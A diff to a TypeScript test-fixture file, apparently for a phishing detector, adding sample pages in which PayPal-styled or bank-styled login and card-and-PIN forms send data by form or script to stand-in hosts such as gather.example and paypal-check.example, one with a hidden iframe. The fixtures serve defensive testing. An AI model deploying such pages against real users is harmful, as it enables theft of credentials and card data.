@@ -1,9 +1,10 @@
 import type { GivenDraft } from "./given-draft.ts"
 import { site } from "./innocent-site.ts"
-import { broken, program } from "./rule-cases.ts"
+import { broken, program, sentByScript } from "./rule-cases.ts"
 
 const login = (attributes = `action="/login" method="post"`) =>
   `<form ${attributes}><input type="email" name="email"><input type="password" name="password"><button>Log in</button></form>`
+const password = `<input type="password" name="password">`
 const ours = "Ferry tickets to Skerry"
 const heading = "<h1>Ferry tickets</h1>"
 const paypalLogo = `<img class="logo" src="logo.png" alt="PayPal">`
@@ -131,7 +132,7 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
     site(
       "draws a window",
       ours,
-      `${heading}${paypalLogo}<div>🔒 https://www.paypal.com/signin</div>${login(`action="https://gather.example/"`)}`,
+      `<h1>${ours}</h1>${paypalLogo}<div>🔒 https://www.paypal.com/signin</div>${sentByScript("https://gather.example/", password)}`,
     ),
   ],
   [
@@ -151,7 +152,7 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
     site(
       "card and PIN under nothing",
       ours,
-      `${heading}<form action="https://gather.example/"><input name="cardnumber"><input name="pin"></form>`,
+      `<h1>${ours}</h1>${sentByScript("https://gather.example/", `<input name="cardnumber"><input name="pin">`)}`,
     ),
   ],
   [
@@ -168,11 +169,24 @@ export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDr
   ],
   [
     "broken-words",
-    site("has letters in words", ours, `<h1>${broken}</h1>${login(`action="https://gather.example/"`)}`),
+    site("has letters in words", ours, `<h1>${broken}</h1>${sentByScript("https://gather.example/", password)}`),
   ],
   ["under-name", site("saves a program", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
   [
     "lookalike-address",
-    site("sends to a host with a name in it", ours, `${heading}${login(`action="https://paypal-check.example/in"`)}`),
+    site(
+      "sends to a host with a name in it",
+      ours,
+      `${heading}${sentByScript("https://paypal-check.example/in", password)}`,
+    ),
+  ],
+  ["taking", site("takes by a form", ours, `${heading}${login(`action="https://gather.example/"`)}`)],
+  [
+    "institution",
+    site(
+      "is a house",
+      "Skerry Bank",
+      `<h1>Skerry Bank</h1>${login(`action="next.php"`)}<iframe hidden src="a.html"></iframe>`,
+    ),
   ],
 ]
